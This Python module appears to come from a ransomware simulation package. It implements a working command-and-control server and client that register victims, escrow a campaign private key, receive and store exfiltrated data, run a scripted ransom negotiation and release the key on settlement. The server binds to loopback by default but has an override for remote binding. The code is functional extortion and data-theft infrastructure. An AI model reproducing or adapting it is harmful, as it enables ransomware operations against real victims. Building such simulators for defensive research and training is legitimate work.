"""Loopback negotiation / escrow / exfiltration server.

The protocol lives in `handle`, a pure function of (state, message); the
asyncio transport only frames lines, applies storage side effects the reply
licenses, and logs. Wire format: one JSON object per line, UTF-8, with
fields kind, victim_id, payload (base64) and offer.
"""
from __future__ import annotations

import asyncio
import base64
import binascii
import ipaddress
import json
import logging
import re
import socket
import threading
import time
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Optional

from . import ValidationError

log = logging.getLogger(__name__)

PHASES = ("idle", "registered", "key_received", "negotiating", "settled")
KINDS = ("REGISTER", "KEY_UPLOAD", "NEGOTIATE", "EXFIL", "RELEASE_REQUEST")
MAX_FRAME = 1 << 20
DEFAULT_DEMAND = 2000
ACCEPT_ROUND = 3
DEFAULT_BIND = "127.0.0.1:4821"

# phases in which each message is legal; the first entry is what ERR reports
_LEGAL = {
    "REGISTER": ("idle",),
    "KEY_UPLOAD": ("registered",),
    "NEGOTIATE": ("key_received", "negotiating"),
    "EXFIL": ("registered", "key_received", "negotiating", "settled"),
    "RELEASE_REQUEST": ("settled",),
}


class ProtocolError(ValidationError):
    """A line that is not a well-formed message."""


@dataclass(frozen=True)
class SessionState:
    phase: str = "idle"
    victim_id: str = ""
    stored: Optional[bytes] = None      # wrapped campaign private key
    negotiation_round: int = 0
    exfil_bytes: int = 0
    initial_demand: int = DEFAULT_DEMAND
    last_counter: Optional[int] = None

    def __post_init__(self):
        if self.phase not in PHASES:
            raise ValidationError(f"unknown phase {self.phase!r}")
        if self.phase in ("key_received", "negotiating", "settled") and self.stored is None:
            raise ValidationError(f"phase {self.phase} requires an uploaded key")

    def to_dict(self) -> dict:
        return {"phase": self.phase, "victim_id": self.victim_id,
                "stored_len": None if self.stored is None else len(self.stored),
                "negotiation_round": self.negotiation_round, "exfil_bytes": self.exfil_bytes,
                "initial_demand": self.initial_demand, "last_counter": self.last_counter}


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


@dataclass(frozen=True)
class Message:
    kind: str
    victim_id: str = ""
    payload: bytes = b""
    offer: Optional[int] = None

    def __post_init__(self):
        if self.kind not in KINDS:
            raise ProtocolError(f"unknown message kind {self.kind!r}")
        if self.kind == "NEGOTIATE":
            if not isinstance(self.offer, int) or isinstance(self.offer, bool) or self.offer < 0:
                raise ProtocolError("NEGOTIATE needs a non-negative integer offer")

    def to_line(self) -> bytes:
        doc = {"kind": self.kind, "victim_id": self.victim_id}
        if self.payload:
            doc["payload"] = _b64(self.payload)
        if self.offer is not None:
            doc["offer"] = self.offer
        return (json.dumps(doc, sort_keys=True) + "\n").encode("utf-8")

    @classmethod
    def from_line(cls, line: bytes | str) -> "Message":
        try:
            doc = json.loads(line)
        except (json.JSONDecodeError, UnicodeDecodeError) as exc:
            raise ProtocolError(f"not JSON: {exc}") from None
        if not isinstance(doc, dict):
            raise ProtocolError("message must be a JSON object")
        vid = doc.get("victim_id", "")
        if not isinstance(vid, str):
            raise ProtocolError("victim_id must be a string")
        raw = doc.get("payload", "")
        try:
            payload = base64.b64decode(raw, validate=True) if raw else b""
        except (binascii.Error, TypeError):
            raise ProtocolError("payload is not base64") from None
        return cls(doc.get("kind"), vid, payload, doc.get("offer"))


@dataclass(frozen=True)
class Reply:
    kind: str                      # ACK | COUNTER | ACCEPT | KEY | ERR
    fields: dict = field(default_factory=dict)

    def to_line(self) -> bytes:
        return (json.dumps({"kind": self.kind, **self.fields}, sort_keys=True) + "\n").encode()

    @classmethod
    def from_line(cls, line: bytes | str) -> "Reply":
        doc = json.loads(line)
        kind = doc.pop("kind")
        return cls(kind, doc)

    @property
    def ok(self) -> bool:
        return self.kind != "ERR"


def counter_offer(offer: int, demand: int) -> int:
    return max(int(offer * 0.8), int(demand * 0.25))


def _err(expected: str, reason: str) -> Reply:
    return Reply("ERR", {"expected_phase": expected, "reason": reason})


def handle(state: SessionState, msg: Message) -> tuple[SessionState, Reply]:
    """Advance a session by one message. Out-of-order messages leave the state untouched."""
    legal = _LEGAL[msg.kind]
    if state.phase not in legal:
        return state, _err(legal[0], f"{msg.kind} not allowed in phase {state.phase}")
    if msg.kind != "REGISTER" and msg.victim_id != state.victim_id:
        return state, _err(state.phase, "victim_id does not match the registered victim")
    if msg.kind == "REGISTER":
        if not msg.victim_id:
            return state, _err("idle", "REGISTER needs a victim_id")
        return replace(state, phase="registered", victim_id=msg.victim_id), \
            Reply("ACK", {"victim_id": msg.victim_id})
    if msg.kind == "KEY_UPLOAD":
        if not msg.payload:
            return state, _err("registered", "KEY_UPLOAD needs a payload")
        return replace(state, phase="key_received", stored=msg.payload), \
            Reply("ACK", {"victim_id": state.victim_id, "stored": len(msg.payload)})
    if msg.kind == "NEGOTIATE":
        rnd = state.negotiation_round + 1
        if rnd >= ACCEPT_ROUND:
            return replace(state, phase="settled", negotiation_round=rnd), \
                Reply("ACCEPT", {"round": rnd, "offer": msg.offer})
        counter = counter_offer(msg.offer, state.initial_demand)
        return replace(state, phase="negotiating", negotiation_round=rnd, last_counter=counter), \
            Reply("COUNTER", {"round": rnd, "counter": counter})
    if msg.kind == "EXFIL":
        total = state.exfil_bytes + len(msg.payload)
        return replace(state, exfil_bytes=total), \
            Reply("ACK", {"received": len(msg.payload), "exfil_bytes": total})
    # RELEASE_REQUEST in settled
    return state, Reply("KEY", {"payload": _b64(state.stored)})


def handle_line(state: SessionState, line: bytes) -> tuple[SessionState, Reply, Optional[Message]]:
    """Parse then handle; malformed input yields ERR and the unchanged state."""
    try:
        msg = Message.from_line(line)
    except ProtocolError as exc:
        return state, Reply("ERR", {"expected_phase": state.phase, "reason": str(exc)}), None
    new, reply = handle(state, msg)
    return new, reply, msg


# -- storage ----------------------------------------------------------------------

_SAFE = re.compile(r"[^A-Za-z0-9._-]")


def safe_victim(victim_id: str) -> str:
    s = _SAFE.sub("_", victim_id)[:64].lstrip(".")
    return s or "anon"


class KeyStore:
    """Append-only key ledger and quarantined exfil chunks, behind one lock."""

    def __init__(self, directory):
        self.dir = Path(directory)
        self.quarantine = self.dir / "quarantine"
        self.sessions = self.dir / "sessions"
        for d in (self.dir, self.quarantine, self.sessions):
            d.mkdir(parents=True, exist_ok=True)
        self._lock = threading.Lock()
        self._n = 0

    def put_key(self, victim_id: str, blob: bytes) -> None:
        with self._lock, open(self.dir / "keys.jsonl", "a") as fh:
            fh.write(json.dumps({"victim_id": victim_id, "wrapped": _b64(blob),
                                 "t": time.time()}) + "\n")

    def put_exfil(self, victim_id: str, chunk: bytes) -> None:
        # stored as opaque bytes under the victim's prefix; never parsed
        with self._lock, open(self.quarantine / f"{safe_victim(victim_id)}.bin", "ab") as fh:
            fh.write(chunk)

    def new_session_log(self) -> Path:
        with self._lock:
            self._n += 1
            return self.sessions / f"session-{self._n:04d}.jsonl"

    def keys(self) -> list[dict]:
        p = self.dir / "keys.jsonl"
        if not p.exists():
            return []
        return [json.loads(line) for line in p.read_text().splitlines() if line.strip()]


# -- transport --------------------------------------------------------------------

def parse_bind(bind: str) -> tuple[str, int]:
    host, sep, port = bind.rpartition(":")
    if not sep or not port.isdigit():
        raise ValidationError(f"bind address must be HOST:PORT, got {bind!r}")
    return host.strip("[]") or "127.0.0.1", int(port)


def is_loopback(host: str) -> bool:
    try:
        infos = socket.getaddrinfo(host, None)
    except socket.gaierror:
        return False
    return bool(infos) and all(ipaddress.ip_address(i[4][0]).is_loopback for i in infos)


class C2Server:
    """Asyncio NDJSON server; one isolated SessionState per connection."""

    def __init__(self, bind: str = DEFAULT_BIND, store_dir="c2-store",
                 demand: int = DEFAULT_DEMAND, allow_remote: bool = False):
        self.host, self.port = parse_bind(bind)
        if not allow_remote and not is_loopback(self.host):
            raise ValidationError(f"refusing non-loopback bind {self.host!r} "
                                  "without the allow-remote override")
        if demand < 0:
            raise ValidationError("demand must be non-negative")
        self.store = KeyStore(store_dir)
        self.demand = demand
        self._server: Optional[asyncio.AbstractServer] = None
        self.finished: list[SessionState] = []

    async def start(self) -> int:
        self._server = await asyncio.start_server(self._session, self.host, self.port,
                                                  limit=MAX_FRAME + 1)
        self.port = self._server.sockets[0].getsockname()[1]
        log.info("listening on %s:%d", self.host, self.port)
        return self.port

    async def close(self) -> None:
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()

    async def serve_until(self, stop: asyncio.Event) -> None:
        if self._server is None:
            await self.start()
        await stop.wait()
        await self.close()

    async def _session(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter):
        state = SessionState(initial_demand=self.demand)
        log_path = self.store.new_session_log()
        with open(log_path, "a") as slog:
            def note(event: str, **kw):
                slog.write(json.dumps({"t": time.time(), "event": event, **kw}) + "\n")
                slog.flush()

            note("open", state=state.to_dict())
            try:
                while True:
                    try:
                        line = await reader.readline()
                    except (asyncio.LimitOverrunError, ValueError):
                        note("close", reason="frame exceeds 1 MiB", state=state.to_dict())
                        break
                    if not line:
                        note("close", reason="eof", state=state.to_dict())
                        break
                    if len(line) > MAX_FRAME:
                        note("close", reason="frame exceeds 1 MiB", state=state.to_dict())
                        break
                    state, reply, msg = handle_line(state, line)
                    if msg is not None and reply.ok:
                        if msg.kind == "KEY_UPLOAD":
                            self.store.put_key(state.victim_id, msg.payload)
                        elif msg.kind == "EXFIL" and msg.payload:
                            self.store.put_exfil(state.victim_id, msg.payload)
                    note("message", kind=msg.kind if msg else None, reply=reply.kind,
                         phase=state.phase, round=state.negotiation_round,
                         exfil_bytes=state.exfil_bytes)
                    writer.write(reply.to_line())
                    await writer.drain()
            except ConnectionError as exc:
                note("close", reason=f"connection error: {exc}", state=state.to_dict())
            finally:
                self.finished.append(state)
                writer.close()
                try:
                    await writer.wait_closed()
                except ConnectionError:
                    pass


def serve(bind_address: str = DEFAULT_BIND, key_store="c2-store", demand: int = DEFAULT_DEMAND,
          allow_remote: bool = False, stop: Optional[asyncio.Event] = None) -> None:
    """Blocking entry point; returns after SIGINT/SIGTERM (or when `stop` is set)."""
    import signal

    async def main():
        srv = C2Server(bind_address, key_store, demand, allow_remote)
        await srv.start()
        ev = stop or asyncio.Event()
        loop = asyncio.get_running_loop()
        for sig in (signal.SIGINT, signal.SIGTERM):
            try:
                loop.add_signal_handler(sig, ev.set)
            except (NotImplementedError, RuntimeError):
                pass
        print(f"listening on {srv.host}:{srv.port}", flush=True)
        await srv.serve_until(ev)

    asyncio.run(main())


class C2Client:
    """Small blocking client, one request/reply per call."""

    def __init__(self, host: str, port: int, timeout: float = 10.0):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.file = self.sock.makefile("rb")

    def send_raw(self, line: bytes) -> Reply:
        self.sock.sendall(line)
        resp = self.file.readline()
        if not resp:
            raise ConnectionError("server closed the connection")
        return Reply.from_line(resp)

    def send(self, msg: Message) -> Reply:
        return self.send_raw(msg.to_line())

    def close(self) -> None:
        self.file.close()
        self.sock.close()

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        self.close()


def happy_path(client: C2Client, victim_id: str, wrapped_key: bytes, offer: int = 1000,
               exfil: bytes = b"") -> bytes:
    """Register, upload, optionally exfiltrate, negotiate to settlement, and fetch the key back."""
    for m in [Message("REGISTER", victim_id), Message("KEY_UPLOAD", victim_id, wrapped_key)]:
        r = client.send(m)
        if not r.ok:
            raise RuntimeError(f"{m.kind} rejected: {r.fields}")
    if exfil:
        client.send(Message("EXFIL", victim_id, exfil))
    while True:
        r = client.send(Message("NEGOTIATE", victim_id, offer=offer))
        if r.kind == "ACCEPT":
            break
        if not r.ok:
            raise RuntimeError(f"NEGOTIATE rejected: {r.fields}")
        offer = r.fields["counter"]
    r = client.send(Message("RELEASE_REQUEST", victim_id))
    if r.kind != "KEY":
        raise RuntimeError(f"release rejected: {r.fields}")
    return base64.b64decode(r.fields["payload"])
